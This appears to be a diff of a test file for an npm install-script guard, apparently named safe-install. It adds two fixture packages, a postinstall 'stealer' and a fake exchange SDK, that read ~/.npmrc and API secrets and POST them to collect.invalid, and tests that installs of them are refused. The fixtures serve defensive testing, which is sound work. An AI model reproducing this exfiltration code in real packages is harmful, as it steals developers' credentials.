@@ -1,28 +1,22 @@
-/**
- * What npm itself does in a project or for a user that `--setup` was run for, with the npm of this machine and with npm
- * 12. Installs real packages: npm 12 and a Node for it, once, into the user's cache (test/helpers/npms.ts).
- */
 import { spawn } from 'node:child_process'
 import { existsSync } from 'node:fs'
 import { chmod, mkdir, readFile, readdir, rm, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
-import t from 'tap'
+import process from 'node:process'
 import type { Test } from 'tap'
-import { runCli } from '../helpers/cli.ts'
-import type { Finished } from '../helpers/cli.ts'
-import { testedNpms } from '../helpers/npms.ts'
-import type { TestedNpm } from '../helpers/npms.ts'
-import { makeProject } from '../helpers/project.ts'
-import type { Project } from '../helpers/project.ts'
-import { startRegistry } from '../helpers/registry.ts'
-import type { Registry } from '../helpers/registry.ts'
-
-t.jobs = 1
+import { runCli } from './cli.ts'
+import type { Finished } from './cli.ts'
+import type { TestedNpm } from './npms.ts'
+import { makeProject } from './project.ts'
+import type { Project } from './project.ts'
+import { startRegistry } from './registry.ts'
+import type { Registry } from './registry.ts'
+import type { FileTable } from './tarball.ts'
 
 type Json = Readonly<Record<string, unknown>>
 
 /** Everything a scenario needs: a registry with the packages below, a project, and a folder for marker files. */
-type Stage = {
+export type Stage = {
   readonly registry: Registry
   readonly project: Project
   readonly npm: (args: readonly string[], options?: NpmOptions) => Promise<Finished>
@@ -30,12 +24,16 @@ type Stage = {
   readonly ran: (name: string) => boolean
 }
 
-type NpmOptions = { readonly env?: Readonly<Record<string, string | undefined>>; readonly program?: string }
+export type NpmOptions = {
+  readonly env?: Readonly<Record<string, string | undefined>>
+  readonly program?: string
+}
 
 /** npm 12 runs no unapproved script by itself; with this the shell is alone in saying no. npm 11 ignores it. */
 const allScripts = '--dangerously-allow-all-scripts'
 
-async function stage(t: Test, tested: TestedNpm, manifest: Json = {}): Promise<Stage> {
+/** A fresh stage. */
+export async function stage(t: Test, tested: TestedNpm, manifest: Json = {}): Promise<Stage> {
   const registry = await startRegistry(t)
   const project = await makeProject(t, registry, {
     'package.json': { name: 'app', version: '1.0.0', private: true, ...manifest },
@@ -145,16 +143,58 @@ function publish(registry: Registry, marker: (name: string) => string): void {
   )
 }
 
+/** Reads a token and sends it away, by its install script. Inert: the host is nobody's, and it is never run. */
+const stealer = {
+  'package.json': JSON.stringify({
+    name: 'stealer',
+    version: '1.0.0',
+    scripts: { postinstall: 'node setup.js' },
+  }),
+  'setup.js': `const fs = require('node:fs')
+const { homedir } = require('node:os')
+const token = fs.readFileSync(homedir() + '/.npmrc', 'utf8')
+fetch('https://collect.invalid/', { method: 'POST', body: token })
+`,
+}
+
+/** The package this project began with, inert: no script, it takes the keys when it is called. */
+const fakeSdk = {
+  'package.json': JSON.stringify({
+    name: 'exchange-sdk-plus',
+    version: '1.0.0',
+    main: 'index.js',
+    bin: 'index.js',
+  }),
+  'index.js': `#!/usr/bin/env node
+const https = require('node:https')
+const { readFileSync } = require('node:fs')
+const { homedir } = require('node:os')
+const send = body => {
+  const request = https.request('https://collect.invalid/', { method: 'POST' })
+  request.end(body)
+}
+send(readFileSync(homedir() + '/.npmrc', 'utf8'))
+class Exchange {
+  constructor({ apiKey, secret }) {
+    send(JSON.stringify({ apiKey, secret }))
+  }
+}
+module.exports = { Exchange }
+`,
+}
+
 const approve = (...names: readonly string[]): Json => ({
   allowScripts: Object.fromEntries(names.map(name => [`${name}@1.0.0`, true])),
 })
 
-async function setUpUser({ project }: Stage): Promise<void> {
+/** Runs `--setup --user --yes`. */
+export async function setUpUser({ project }: Stage): Promise<void> {
   const done = await runCli(project, ['--setup', '--user', '--yes'])
   if (done.code !== 0) throw new Error(`--setup --user: ${done.stderr}${done.stdout}`)
 }
 
-async function setUpProject({ project }: Stage, ...flags: readonly string[]): Promise<void> {
+/** Runs `--setup --yes`. */
+export async function setUpProject({ project }: Stage, ...flags: readonly string[]): Promise<void> {
   const done = await runCli(project, ['--setup', '--yes', ...flags])
   if (done.code !== 0) throw new Error(`--setup: ${done.stderr}${done.stdout}`)
 }
@@ -162,10 +202,13 @@ async function setUpProject({ project }: Stage, ...flags: readonly string[]): Pr
 const isInstalled = ({ project }: Stage, name: string): boolean =>
   existsSync(join(project.path, 'node_modules', name, 'package.json'))
 
-const npms = await testedNpms()
-
-for (const tested of npms) {
+/**
+ * What one npm does in a project or for a user that `--setup` was run for: every trap that was found, shown failing.
+ */
+export function testEnforcement(t: Test, tested: TestedNpm): void {
   const { title, major } = tested
+  t.jobs = 1
+  t.setTimeout(900_000)
   t.test(`${title}: scripts of packages go through the guard`, async t => {
     t.test('a clean one without approval is skipped, and the install goes on', async t => {
       const at = await stage(t, tested)
@@ -352,11 +395,50 @@ for (const tested of npms) {
     t.ok(isInstalled(at, 'plain'), 'the rest stays')
     t.equal(await at.project.read('package-lock.json'), lock)
     t.match(bad.stderr, /refused this install because of bad-import@1\.0\.0/)
-    await addToLock(at, 'bad-import')
+    t.equal((await runCli(at.project, [])).code, 0, 'safe-install and its own gate get along')
+    const accepted = await runCli(at.project, ['bad-import', '--yes'])
+    t.equal(accepted.code, 0, 'what a person said yes to, the gate lets pass')
+    t.ok(isInstalled(at, 'bad-import'))
+    t.equal((await at.npm(['uninstall', 'bad-import'])).code, 0)
+    await rm(join(at.project.home, '.safe-install', 'receipts'), { recursive: true })
+    await addToLock(at, 'bad-import', badImport)
     for (const words of [['install'], ['ci']]) {
       const done = await at.npm(words)
       t.not(done.code, 0, `npm ${words.join(' ')}, from a warm cache`)
       t.notOk(isInstalled(at, 'bad-import'))
+    }
+  })
+
+  t.test(`${title}: a credential stealer and a fake SDK at every door`, async t => {
+    for (const [name, files] of [
+      ['stealer', stealer],
+      ['exchange-sdk-plus', fakeSdk],
+    ] as const) {
+      const at = await stage(t, tested, approve(name))
+      at.registry.publish({ files })
+      await setUpUser(at)
+      await setUpProject(at)
+      t.equal((await at.npm(['install', 'plain'])).code, 0, 'an honest one is let in')
+      const refused = async (what: string, words: readonly string[], options?: NpmOptions): Promise<void> => {
+        const done = await at.npm(words, options)
+        t.not(done.code, 0, `${name}: ${what} fails`)
+        t.notOk(isInstalled(at, name), `${name}: ${what} leaves nothing`)
+        t.match(done.stderr + done.stdout, /collect\.invalid|npm error/, `${name}: ${what} says why`)
+      }
+      await refused('npm install <pkg>', ['install', name])
+      await refused('npm install <pkg> in an agent', ['install', name], {
+        env: { CLAUDECODE: '1', CI: 'true' },
+      })
+      await addToLock(at, name, files)
+      await refused('npm install', ['install'])
+      await refused('npm ci from a warm cache', ['ci', '--offline'])
+      const npx = await at.npm(['exec', '--yes', '--', `${name}@1.0.0`])
+      t.not(npx.code, 0, `${name}: npx`)
+      const shims = join(at.project.home, '.safe-install', 'bin')
+      const env = { PATH: `${shims}:${process.env['PATH']}` }
+      const global = await at.npm(['install', '--global', name], { program: join(shims, 'npm'), env })
+      t.equal(global.code, 10, `${name}: a global install, by the shim`)
+      t.match(global.stdout, /collect\.invalid/)
     }
   })
 
@@ -446,7 +528,7 @@ async function editShell({ project }: Stage, pattern: RegExp, text: string): Pro
 }
 
 /** A lockfile and manifest that somebody else wrote, with one package more. */
-async function addToLock({ project, registry }: Stage, name: string): Promise<void> {
+async function addToLock({ project, registry }: Stage, name: string, files: FileTable): Promise<void> {
   const manifest = JSON.parse(await project.read('package.json')) as { dependencies: Record<string, string> }
   manifest.dependencies[name] = '1.0.0'
   await project.write('package.json', JSON.stringify(manifest))
@@ -455,7 +537,7 @@ async function addToLock({ project, registry }: Stage, name: string): Promise<vo
   }
   const root = lock.packages['']
   if (root?.dependencies) root.dependencies[name] = '1.0.0'
-  const published = registry.publish({ files: badImport })
+  const published = registry.publish({ files })
   const entry = {
     version: '1.0.0',
     resolved: published.url,
